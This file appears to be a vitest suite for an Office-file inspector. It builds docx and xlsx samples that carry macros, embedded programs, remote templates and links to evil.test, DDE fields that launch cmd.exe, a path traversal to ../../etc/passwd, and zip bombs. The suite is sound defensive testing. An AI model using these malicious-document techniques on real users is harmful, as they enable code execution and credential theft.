import { describe, expect, it } from 'vitest'
import { useInspection } from '../support/files/inspection.js'
import { contentTypes, link, office, relationships } from '../support/files/office.js'
import { withLinks, withText } from '../support/files/office-parts.js'

const inspect = useInspection()

describe('what an office document must not have', () => {
  const nested = (levels: number): Buffer =>
    levels === 0
      ? office('xlsx')
      : office('docx', [{ name: 'word/embeddings/a.docx', content: nested(levels - 1) }])
  it.each<[string, string, () => Buffer]>([
    [
      'macros',
      'a project of macros',
      () => office('docx', [{ name: 'word/vbaProject.bin', content: 'x' }]),
    ],
    [
      'macros',
      'a kind that may have them',
      () =>
        office('docx', [
          {
            name: '[Content_Types].xml',
            content: contentTypes(
              '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
            ),
          },
        ]),
    ],
    [
      'macros',
      'sheets of old macros',
      () => office('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }]),
    ],
    [
      'macros',
      'controls',
      () => office('docx', [{ name: 'word/activeX/activeX1.xml', content: '<x/>' }]),
    ],
    [
      'macros',
      'macros in a workbook within',
      () =>
        office('docx', [
          {
            name: 'word/embeddings/a.xlsx',
            content: office('xlsx', [{ name: 'xl/vbaProject.bin', content: 'x' }]),
          },
        ]),
    ],
    [
      'embedded_object',
      'an object of another program',
      () => office('docx', [{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
    ],
    [
      'embedded_object',
      'a program',
      () => office('docx', [{ name: 'word/media/setup.exe', content: 'MZ' }]),
    ],
    [
      'external_content',
      'a template from elsewhere',
      () =>
        office('docx', [
          {
            name: 'word/_rels/settings.xml.rels',
            content: relationships(
              link('attachedTemplate', 'https://evil.test/a.dotm', 'External'),
            ),
          },
        ]),
    ],
    [
      'external_content',
      'the same, written in references',
      () => withLinks(link('attachedTemplate', 'x', '&#69;xternal')),
    ],
    [
      'external_content',
      'the same in UTF-16',
      () =>
        office('docx', [
          {
            name: 'word/_rels/a.xml.rels',
            content: Buffer.from(
              `\ufeff${relationships(link('attachedTemplate', 'x', 'External'))}`,
              'utf16le',
            ),
          },
        ]),
    ],
    [
      'external_content',
      'a picture from a server that takes passwords',
      () => withLinks(link('image', '\\\\evil.test\\share\\a.png', 'External')),
    ],
    [
      'external_content',
      'an object from elsewhere',
      () => withLinks(link('oleObject', 'https://evil.test/', 'External')),
    ],
    [
      'external_content',
      'a workbook from elsewhere',
      () =>
        office('xlsx', [
          {
            name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
            content: relationships(
              link('externalLinkPath', 'https://evil.test/a.xlsx', 'External'),
            ),
          },
        ]),
    ],
    [
      'external_content',
      'a formula that starts a program',
      () =>
        office('xlsx', [
          {
            name: 'xl/externalLinks/externalLink1.xml',
            content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
          },
        ]),
    ],
    [
      'external_content',
      'a field that starts a program',
      () => withText('<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>'),
    ],
    [
      'external_content',
      'the same, spread over runs',
      () =>
        withText(
          '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText></w:r>',
        ),
    ],
    [
      'external_content',
      'the same as a simple field',
      () => withText('<w:fldSimple w:instr="DDE cmd"/>'),
    ],
    [
      'encrypted',
      'a password',
      () => office('docx', [{ name: 'a', content: 'x', claims: { isEncrypted: true } }]),
    ],
    [
      'malformed',
      'the same name twice',
      () =>
        office('docx', [
          { name: 'a', content: '1' },
          { name: 'A', content: '2' },
        ]),
    ],
    [
      'malformed',
      'a name that leads out',
      () => office('docx', [{ name: '../../etc/passwd', content: 'x' }]),
    ],
    ['malformed', 'entities of its own', () => withLinks('<!DOCTYPE x [<!ENTITY a "b">]>')],
    ['malformed', 'half of its bytes', () => office('docx').subarray(0, 300)],
    [
      'malformed',
      'a size that is not true',
      () => office('docx', [{ name: 'a', content: 'hello', claims: { size: 2 } }]),
    ],
    [
      'unpacks_too_large',
      'zeros without end',
      () => office('docx', [{ name: 'a', content: Buffer.alloc(30_000_000) }]),
    ],
    [
      'unpacks_too_large',
      'zeros that it does not own up to',
      () =>
        office('docx', [
          { name: 'a', content: Buffer.alloc(30_000_000), claims: { size: 30_000_000 } },
        ]),
    ],
    [
      'unpacks_too_large',
      'more than 100 MB',
      () => office('docx', [{ name: 'a', content: Buffer.alloc(106_000_000), stored: true }]),
    ],
    [
      'unpacks_too_large',
      'more than a thousand entries',
      () =>
        office(
          'docx',
          Array.from({ length: 1_001 }, (_, n) => ({ name: `a${n}`, content: '' })),
        ),
    ],
    ['unpacks_too_large', 'an archive in an archive in an archive', () => nested(2)],
  ])('%s: %s', async (problem, _what, content) => {
    expect(await inspect('docx', content())).toBe(problem) // whatever it was said to be
  })
})
